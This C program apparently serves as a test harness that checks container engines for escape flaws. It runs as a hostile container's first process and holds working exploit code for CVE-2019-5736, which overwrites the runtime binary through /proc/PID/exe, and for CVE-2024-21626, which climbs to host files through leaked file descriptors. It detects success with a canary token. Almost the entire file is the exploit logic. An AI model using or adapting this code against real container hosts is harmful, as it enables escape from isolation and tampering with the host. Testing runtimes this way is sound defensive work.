// SPDX-License-Identifier: MIT
// Usage: attacker CANARY TOKEN [ROOT]
// The first process of a hostile container. It watches for processes that come into its pid
// namespace and tries on each, for as long as it lives and after:
//   - CVE-2019-5736: open the file that the process runs from, through /proc/PID/exe; once the
//   process has gone, open
//     that file for writing through /proc/self/fd, and overwrite it;
//   - CVE-2024-21626: find a way to the host's files through the process's descriptors, working
//   directory and root:
//     climb to the top from there and read CANARY, a file of the host that holds TOKEN.
// At SIGTERM, or after a minute, it prints what it got, a "word number" a line.
// An engine puts it in a root of its own; without one, in new namespaces, it moves to ROOT itself.
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <signal.h>
#include <stdbool.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/mount.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <time.h>
#include <unistd.h>

enum { prey_max = 64, loot_max = 256, climb_max = 64, last_tries = 200 };

struct prey {
	int pid;
	int folder; // its /proc/PID
	bool opened;
	bool looked;
};

struct loot {
	int fd; // what a process ran from, opened for reading
	dev_t device;
	ino_t inode;
	bool written;
};

struct attack {
	const char *canary, *token;
	struct prey prey[prey_max];
	struct loot loot[loot_max];
	int prey_count, loot_count;
	int last_pid;
	struct stat own; // our own program is no loot
	long seen, opened, written, looked, reached, busy, refused;
};

static volatile sig_atomic_t told_to_stop;

static void stop(int signal)
{
	(void)signal;
	told_to_stop = 1;
}

// The last PID given out in this pid namespace: the fifth word of /proc/loadavg. Reading a folder
// takes longer than some processes live.
static int last_pid(int loadavg)
{
	char text[128];
	ssize_t length = pread(loadavg, text, sizeof text - 1, 0);
	if (length <= 0)
		return 0;
	text[length] = '\0';
	const char *word = strrchr(text, ' ');
	return word ? atoi(word + 1) : 0;
}

static void watch(struct attack *attack, int loadavg)
{
	char path[32];
	int last = last_pid(loadavg);
	for (int pid = attack->last_pid + 1; pid <= last; pid++) {
		snprintf(path, sizeof path, "/proc/%d", pid);
		int folder = open(path, O_PATH | O_DIRECTORY);
		if (folder < 0)
			continue;
		attack->seen++;
		if (attack->prey_count == prey_max)
			close(folder);
		else
			attack->prey[attack->prey_count++] =
				(struct prey){.pid = pid, .folder = folder};
	}
	if (last > attack->last_pid)
		attack->last_pid = last;
}

static void keep(struct attack *attack, int fd)
{
	struct stat status;
	if (fstat(fd, &status) < 0 || attack->loot_count == loot_max) {
		close(fd);
		return;
	}
	for (int i = 0; i < attack->loot_count; i++) {
		const struct loot *loot = &attack->loot[i];
		if (loot->device == status.st_dev && loot->inode == status.st_ino) {
			close(fd);
			return;
		}
	}
	attack->loot[attack->loot_count++] =
		(struct loot){.fd = fd, .device = status.st_dev, .inode = status.st_ino};
}

// Returns false once the process has gone.
static bool open_its_file(struct attack *attack, struct prey *prey)
{
	struct stat status;
	int fd = openat(prey->folder, "exe", O_RDONLY);
	if (fd < 0)
		return errno != ENOENT && errno != ESRCH;
	if (fstat(fd, &status) == 0 && status.st_dev == attack->own.st_dev &&
		status.st_ino == attack->own.st_ino) {
		close(fd);
		return true;
	}
	if (!prey->opened)
		attack->opened++;
	prey->opened = true;
	keep(attack, fd);
	return true;
}

static bool holds_token(const struct attack *attack, int fd)
{
	char text[256];
	ssize_t length = pread(fd, text, sizeof text - 1, 0);
	if (length <= 0)
		return false;
	text[length] = '\0';
	return strstr(text, attack->token) != NULL;
}

static bool canary_below(const struct attack *attack, int folder)
{
	int fd = openat(folder, attack->canary + 1, O_RDONLY);
	if (fd < 0)
		return false;
	bool found = holds_token(attack, fd);
	close(fd);
	return found;
}

// From a folder that lies outside our root, ".." leads to the top of the host's tree.
static bool climb(const struct attack *attack, int folder)
{
	bool found = false;
	for (int i = 0; i < climb_max && folder >= 0 && !found; i++) {
		found = canary_below(attack, folder);
		int parent = openat(folder, "..", O_PATH | O_DIRECTORY);
		close(folder);
		folder = parent;
	}
	if (folder >= 0)
		close(folder);
	return found;
}

static void look_through(struct attack *attack, struct prey *prey, const char *path)
{
	struct stat status;
	bool found = false;
	if (fstatat(prey->folder, path, &status, 0) < 0)
		return;
	if (!prey->looked)
		attack->looked++;
	prey->looked = true;
	if (S_ISDIR(status.st_mode)) {
		int folder = openat(prey->folder, path, O_PATH | O_DIRECTORY);
		found = folder >= 0 && climb(attack, folder);
	} else if (S_ISREG(status.st_mode)) {
		int fd = openat(prey->folder, path, O_RDONLY);
		found = fd >= 0 && holds_token(attack, fd);
		if (fd >= 0)
			close(fd);
	}
	if (found)
		attack->reached++;
}

static void look_around(struct attack *attack, struct prey *prey)
{
	char path[300];
	look_through(attack, prey, "cwd");
	look_through(attack, prey, "root");
	int folder = openat(prey->folder, "fd", O_RDONLY | O_DIRECTORY);
	DIR *descriptors = folder < 0 ? NULL : fdopendir(folder);
	if (!descriptors)
		return;
	for (struct dirent *entry; (entry = readdir(descriptors));) {
		if (entry->d_name[0] == '.')
			continue;
		snprintf(path, sizeof path, "fd/%s", entry->d_name);
		look_through(attack, prey, path);
	}
	closedir(descriptors);
}

static void try_prey(struct attack *attack)
{
	for (int i = 0; i < attack->prey_count;) {
		struct prey *prey = &attack->prey[i];
		if (open_its_file(attack, prey)) {
			look_around(attack, prey);
			i++;
		} else {
			close(prey->folder);
			*prey = attack->prey[--attack->prey_count];
		}
	}
}

static void overwrite(struct attack *attack)
{
	static const char payload[] = "#!/overwritten by the container\n";
	char path[32];
	for (int i = 0; i < attack->loot_count; i++) {
		struct loot *loot = &attack->loot[i];
		if (loot->written)
			continue;
		snprintf(path, sizeof path, "/proc/self/fd/%d", loot->fd);
		int fd = open(path, O_WRONLY);
		if (fd >= 0 && write(fd, payload, sizeof payload - 1) > 0) {
			loot->written = true;
			attack->written++;
		} else if (errno == ETXTBSY) {
			attack->busy++;
		} else {
			attack->refused++;
		}
		if (fd >= 0)
			close(fd);
	}
}

static int move_to(const char *root)
{
	if (mount(root, root, NULL, MS_BIND | MS_REC, NULL) < 0 || chdir(root) < 0 ||
		mount("proc", "proc", "proc", 0, NULL) < 0)
		return -1;
	// The old root lies over the new one until it is unmounted (pivot_root(2)).
	if (syscall(SYS_pivot_root, ".", ".") < 0 || umount2(".", MNT_DETACH) < 0)
		return -1;
	return chdir("/");
}

static void print(const struct attack *attack)
{
	printf("seen %ld\nopened %ld\nwritten %ld\n", attack->seen, attack->opened,
		attack->written);
	printf("looked %ld\nreached %ld\n", attack->looked, attack->reached);
	printf("busy %ld\nrefused %ld\n", attack->busy, attack->refused);
	fflush(stdout);
}

int main(int argc, char **argv)
{
	static struct attack attack;
	if (argc < 3)
		return 2;
	if (argc > 3 && move_to(argv[3]) < 0) {
		perror(argv[3]);
		return 1;
	}
	attack.canary = argv[1];
	attack.token = argv[2];
	signal(SIGTERM, stop);
	signal(SIGALRM, stop);
	alarm(60);
	int loadavg = open("/proc/loadavg", O_RDONLY);
	if (loadavg < 0 || stat("/proc/self/exe", &attack.own) < 0)
		return 1;
	attack.last_pid = last_pid(loadavg);
	printf("ready\n");
	fflush(stdout);
	while (!told_to_stop) {
		watch(&attack, loadavg);
		try_prey(&attack);
		overwrite(&attack);
	}
	for (int i = 0; i < last_tries; i++) {
		overwrite(&attack);
		nanosleep(&(struct timespec){.tv_nsec = 1000000}, NULL);
	}
	print(&attack);
	return 0;
}
